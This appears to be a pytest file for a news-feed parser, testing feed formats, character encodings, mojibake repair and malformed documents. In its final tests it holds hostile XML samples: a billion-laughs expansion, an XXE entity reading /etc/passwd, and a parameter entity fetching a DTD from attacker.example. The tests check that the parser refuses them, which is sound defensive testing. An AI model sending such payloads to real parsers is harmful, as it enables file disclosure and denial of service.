"""Parsing feed documents: formats, encodings, broken and hostile documents (connectors/parse.py,
with the entity guard of connectors/xmlguard.py that it applies first)."""

from __future__ import annotations

import pytest

from connectors.errors import EmptyBody, NotAFeed, ParseFailed, UnsafeDocument
from connectors.parse import ParserPool, parse_document
from connectors.xmlguard import refuse_entity_declarations

pytestmark = pytest.mark.unit

RSS2 = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>T</title><link>https://example.org/</link>
<item><title>One</title><link>https://example.org/1</link><guid>g1</guid>
<pubDate>Tue, 11 Mar 2025 09:30:00 +0000</pubDate><description>First</description></item>
</channel></rss>"""

RSS091 = b"""<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
  "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old</title><link>http://example.org/</link>
<description>d</description><language>pt-br</language>
<item><title>Not\xedcia</title><link>http://example.org/a</link></item></channel></rss>"""

RDF = b"""<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
  xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel rdf:about="https://example.org/"><title>R</title><link>https://example.org/</link>
<description>d</description></channel>
<item rdf:about="https://example.org/r1"><title>RDF item</title><link>https://example.org/r1</link>
<dc:date>2025-03-11T09:30:00Z</dc:date></item></rdf:RDF>"""

ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="zh-CN" xml:base="https://example.cn/">
<title>A</title><id>urn:a</id><updated>2025-03-11T09:30:00Z</updated>
<entry><title>中俄合作</title><id>urn:a:1</id><link href="/news/1"/>
<updated>2025-03-11T09:30:00+08:00</updated><summary>内容</summary></entry></feed>""".encode()


@pytest.mark.parametrize(
    ("document", "version"),
    [(RSS2, "rss20"), (RSS091, "rss091n"), (RDF, "rss10"), (ATOM, "atom10")],
)
def test_every_feed_format_yields_its_entry(document: bytes, version: str) -> None:
    parsed = parse_document(document)
    assert parsed.version == version
    assert len(parsed.entries) == 1
    assert parsed.entries[0].title


def test_declared_latin1_is_decoded() -> None:
    parsed = parse_document(RSS091)
    assert parsed.entries[0].title == "Notícia"


def test_windows_1251_declared() -> None:
    body = (
        '<?xml version="1.0" encoding="windows-1251"?><rss version="2.0"><channel><title>К</title>'
        "<item><title>Роскосмос запустил спутник</title><guid>x</guid></item></channel></rss>"
    ).encode("cp1251")
    assert parse_document(body).entries[0].title == "Роскосмос запустил спутник"


def test_gb2312_declared() -> None:
    body = (
        '<?xml version="1.0" encoding="gb2312"?><rss version="2.0"><channel><title>新闻</title>'
        "<item><title>北斗卫星导航系统</title><guid>x</guid></item></channel></rss>"
    ).encode("gb2312")
    assert parse_document(body).entries[0].title == "北斗卫星导航系统"


def test_undeclared_latin1_falls_back_and_reports_it() -> None:
    # No XML declaration, bytes are ISO-8859-1: UTF-8 fails, the fallback reads them.
    body = (
        "<rss version='2.0'><channel><title>Café</title>"
        "<item><title>Élysée</title><guid>1</guid></item></channel></rss>"
    ).encode("latin-1")
    parsed = parse_document(body)
    assert parsed.entries[0].title == "Élysée"
    assert any("encoding" in p.lower() for p in parsed.problems)


def test_charset_from_http_header_wins_over_missing_declaration() -> None:
    body = (
        "<rss version='2.0'><channel><title>x</title>"
        "<item><title>Привет</title><guid>1</guid></item></channel></rss>"
    ).encode("koi8-r")
    parsed = parse_document(body, content_type="application/rss+xml; charset=koi8-r")
    assert parsed.entries[0].title == "Привет"


def test_double_encoded_utf8_is_repaired() -> None:
    # "В" is D0 92 in UTF-8, and 0x92 is "’" in windows-1252: feedparser's own latin-1
    # round trip cannot undo this kind, ours must.
    title = "В Москве «Роскосмос» и CNSA"
    mojibake = title.encode("utf-8").decode("cp1252", errors="replace")
    # the cp1252 holes (0x81, 0x8D, 0x8F, 0x90, 0x9D) survive as C1 controls in the wild
    mojibake = "".join(
        ch if ch != "\ufffd" else chr(b)
        for ch, b in zip(mojibake, title.encode("utf-8"), strict=True)
    )
    body = (
        "<?xml version='1.0' encoding='utf-8'?><rss version='2.0'><channel><title>t</title>"
        f"<item><title>{mojibake}</title><guid>1</guid></item></channel></rss>"
    ).encode()
    parsed = parse_document(body)
    assert parsed.entries[0].title == title
    assert parsed.repaired_mojibake
    assert any("mojibake" in p for p in parsed.problems)


def test_malformed_xml_keeps_usable_entries_and_reports_problem() -> None:
    body = (
        b"<?xml version='1.0' encoding='utf-8'?><rss version='2.0'><channel><title>t</title>"
        b"<item><title>Tom & Jerry</title><link>https://e.org/1?a=1&b=2</link><guid>1</guid></item>"
        b"<item><title>Second</title><guid>2</guid></item></channel></rss>"
    )
    parsed = parse_document(body)
    assert [e.title for e in parsed.entries] == ["Tom & Jerry", "Second"]
    assert parsed.problems, "a bozo document must report its problem"


def test_truncated_document_keeps_complete_entries() -> None:
    body = RSS2.replace(b"</channel></rss>", b"<item><title>Cut")
    parsed = parse_document(body)
    assert parsed.entries[0].title == "One"
    assert parsed.problems


def test_html_page_is_not_a_feed() -> None:
    body = b"<!DOCTYPE html><html><head><title>Home page</title></head><body>hi</body></html>"
    with pytest.raises(NotAFeed, match=r"HTML page.*Home page"):
        parse_document(body)


def test_json_or_text_is_not_a_feed() -> None:
    with pytest.raises(NotAFeed):
        parse_document(b'{"items": []}')


@pytest.mark.parametrize("body", [b"", b"   \n\t  ", b"\n"])
def test_empty_body(body: bytes) -> None:
    with pytest.raises(EmptyBody):
        parse_document(body)


def test_feed_with_no_entries_is_valid_and_empty() -> None:
    body = b"<?xml version='1.0'?><rss version='2.0'><channel><title>quiet</title></channel></rss>"
    assert parse_document(body).entries == []


def test_broken_feed_with_no_entries_is_a_parse_failure() -> None:
    body = b"<?xml version='1.0'?><rss version='2.0'><channel><title>x</title><item"
    with pytest.raises((ParseFailed, NotAFeed)):
        parse_document(body)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<rss version="2.0"><channel><title>&lol3;</title>
<item><title>&lol3;</title></item></channel></rss>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>x</title><item><title>&xxe;</title></item></channel></rss>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rss version="2.0"><channel><title>x</title></channel></rss>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY])
def test_entity_declarations_are_refused(body: bytes) -> None:
    with pytest.raises(UnsafeDocument):
        parse_document(body)


def test_entity_declarations_in_utf16_are_refused() -> None:
    body = EXTERNAL_ENTITY.decode().replace('<?xml version="1.0"?>', "").encode("utf-16")
    with pytest.raises(UnsafeDocument):
        refuse_entity_declarations(body)


def test_external_doctype_without_entities_is_fine() -> None:
    refuse_entity_declarations(RSS091)  # Netscape DTD reference: harmless, common
    assert parse_document(RSS091).entries


def test_entity_text_inside_an_item_is_not_mistaken_for_a_declaration() -> None:
    body = RSS2.replace(b"First", b"<![CDATA[how <!ENTITY works]]>")
    assert parse_document(body).entries[0].summary == "how <!ENTITY works"


def test_entries_without_dates_titles_or_links_are_kept_raw() -> None:
    body = (
        b"<rss version='2.0'><channel><title>t</title>"
        b"<item><description>only text</description></item>"
        b"<item><title>only title</title></item></channel></rss>"
    )
    entries = parse_document(body).entries
    assert entries[0].title == "" and entries[0].summary == "only text"
    assert entries[1].link is None and entries[1].published is None


def test_unusual_date_formats_are_read() -> None:
    body = RSS2.replace(b"Tue, 11 Mar 2025 09:30:00 +0000", b"Tue, 04 Sep 2018 18:48 EDT")
    published = parse_document(body).entries[0].published
    assert published is not None and published.isoformat() == "2018-09-04T22:48:00+00:00"


async def test_parser_pool_runs_in_worker_processes() -> None:
    pool = ParserPool(1, use_processes=True)
    try:
        parsed = await pool.parse(ATOM)
        assert parsed.entries[0].title == "中俄合作"
        with pytest.raises(NotAFeed):  # named errors cross the process boundary intact
            await pool.parse(b"<html><head><title>x</title></head></html>")
    finally:
        pool.close()
